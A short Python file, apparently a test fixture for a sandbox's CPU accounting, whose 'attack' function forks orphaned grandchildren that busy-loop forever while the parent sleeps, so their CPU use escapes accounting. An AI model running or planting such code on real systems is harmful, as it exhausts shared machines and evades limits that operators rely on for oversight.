"""Lets orphans, for whom no child is accounted, use the CPU while it sleeps."""

import os
import time


def attack(a, *rest, **named):
    for _ in range(4):
        if os.fork() == 0:
            if os.fork() == 0:
                while True:
                    pass
            os._exit(0)
    time.sleep(60)
